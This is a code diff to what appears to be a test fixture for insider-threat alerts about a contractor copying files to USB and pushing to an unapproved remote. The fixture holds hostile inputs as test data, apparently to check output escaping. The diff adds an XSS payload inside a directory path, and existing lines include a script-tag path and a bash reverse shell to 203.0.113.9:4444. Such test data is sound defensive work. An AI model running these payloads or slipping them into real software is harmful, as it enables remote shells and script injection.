@@ -27,6 +27,7 @@ WEDNESDAY = START + timedelta(days=2)
 REPO = "https://git.example.com/payments/api.git"
 COMMIT_URL = "https://git.example.com/{repo}/commit/{sha}"
 EVIL_PATH = 'scripts/<script>alert("path")</script>.sh'
+EVIL_DIR = "/media/mallory/USB/<svg onload=alert(document.domain)>"  # a path from a command line
 EVIL_LINE = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 # <img src=x onerror=alert(1)>"
 
 IDENTITIES = """\
@@ -293,7 +294,7 @@ def alerts() -> list[Alert]:
         alert("mallory", Role.CONTRACTOR, "mass-copy-out", Severity.HIGH, busy,
               "mallory wrote 300 files (14.3 MiB) to removable or network mount /media/mallory/USB",
               ("files: 300 (threshold 200)", "removable or network mount: /media/mallory/USB",
-               "top dir: /media/mallory/USB"), Severity.MEDIUM, "T1052.001"),
+               f"top dir: {EVIL_DIR}"), Severity.MEDIUM, "T1052.001"),
         alert("mallory", Role.CONTRACTOR, "unapproved-push", Severity.HIGH, THURSDAY_NIGHT,
               "mallory pushed /home/mallory/src/api to unapproved remote gitlab.evil.example",
               ("repository: /home/mallory/src/api", "remote: https://gitlab.evil.example/m/api.git",
